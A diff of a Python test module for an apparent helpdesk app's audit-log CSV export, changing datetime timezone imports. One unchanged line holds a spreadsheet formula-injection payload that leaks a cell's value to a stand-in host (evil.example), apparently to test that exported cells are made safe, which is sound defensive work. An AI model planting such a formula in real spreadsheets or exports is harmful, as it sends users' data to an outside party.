@@ -3,7 +3,7 @@ action in words, changes as before -> after, spreadsheet-safe cells; admins and 
 read it, nobody else."""
 import csv
 import io
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 
 import pytest
 from sqlalchemy import select
@@ -12,7 +12,7 @@ from hotline.audit.models import AuditEvent
 from hotline.core.extensions import db
 from hotline.tickets.models import Ticket
 
-T0 = datetime(2026, 11, 20, 2, 0, tzinfo=timezone.utc)  # 10:00 in the center (UTC+8)
+T0 = datetime(2026, 11, 20, 2, 0, tzinfo=UTC)  # 10:00 in the center (UTC+8)
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
